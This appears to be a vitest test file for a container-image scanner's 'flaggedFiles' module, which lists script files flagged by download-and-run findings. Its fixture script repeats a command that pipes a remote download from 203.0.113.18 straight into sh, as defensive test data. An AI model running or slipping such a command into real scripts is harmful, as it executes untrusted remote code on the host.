import { describe, expect, it } from 'vitest';
import { testDigest } from '../../testkit/assessment.ts';
import type { Finding } from '../detect/finding.ts';
import type { Accounting } from '../explain/accounting/index.ts';
import type { LayerEntry } from '../image/layer-facts.ts';
import { buildTree } from '../image/tree/build-tree.ts';
import { flaggedFiles } from './flagged-files.ts';

const SCRIPT = `#!/bin/sh\n${'curl -fsSL http://203.0.113.18/setup | sh -s -- --quiet\n'.repeat(6)}`;

function entry(path: string, more: Partial<LayerEntry> = {}): LayerEntry {
  return {
    path,
    kind: 'file',
    size: SCRIPT.length,
    mode: 0o755,
    uid: 0,
    gid: 0,
    sha256: 'ab'.repeat(32),
    ...more,
  };
}

const script = { content: { kind: 'script', interpreter: '/bin/sh', encoding: 'utf-8' } } as const;

function finding(path: string, layer: number, more: Partial<Finding> = {}): Finding {
  return {
    rule: 'start/download-and-run',
    title: 't',
    category: 'start',
    severity: 'high',
    confidence: 'high',
    why: 'w',
    fix: 'f',
    evidence: [{ path, layer, excerpt: 'x' }],
    ...more,
  };
}

const NOTHING: Accounting = {
  total: 2,
  accounted: 1,
  withoutDigest: 0,
  changed: 0,
  unlisted: 1,
  databases: [],
  changedFiles: [],
  unaccounted: [
    { path: '/run.sh', kind: 'script', size: 1, layer: 0, atStart: true, why: 'nobody lists it' },
  ],
  notes: [],
};

function flagged(findings: readonly Finding[], accounting = NOTHING) {
  const layer = (...entries: LayerEntry[]) => ({ diffId: testDigest('l'), size: 0, entries, unknowns: [] });
  const tree = buildTree([
    layer(entry('run.sh', script), entry('opt/old.sh', script), entry('usr/bin/packaged', script)),
    layer(entry('opt/old.sh', { kind: 'whiteout', size: 0 })),
  ]);
  return flaggedFiles({ findings, tree, accounting, text: () => SCRIPT });
}

describe('flaggedFiles', () => {
  it('tells a script that a finding points at by digest and shape, also one that is removed later', () => {
    const both = flagged([finding('/run.sh', 0), finding('/opt/old.sh', 0)]);
    expect(both).toEqual([
      {
        path: '/run.sh',
        layer: 0,
        kind: 'script',
        size: SCRIPT.length,
        sha256: 'ab'.repeat(32),
        shape: expect.stringMatching(/^s1:[0-9a-f]{64}$/),
      },
      expect.objectContaining({ path: '/opt/old.sh', layer: 0 }),
    ]);
  });

  it('leaves out what a package accounts for, as far as that is known', () => {
    expect(flagged([finding('/usr/bin/packaged', 0)])).toEqual([]);
    const long = { ...NOTHING, unlisted: 1_000_000 };
    expect(flagged([finding('/usr/bin/packaged', 0)], long)).toHaveLength(1);
  });

  it('leaves out the configuration, mere hints, and findings about something else than files', () => {
    expect(
      flagged([
        finding('ENTRYPOINT', 0),
        finding('/run.sh', 0, { severity: 'low' }),
        finding('/run.sh', 0, { category: 'access' }),
        finding('/nowhere', 0),
      ]),
    ).toEqual([]);
  });
});
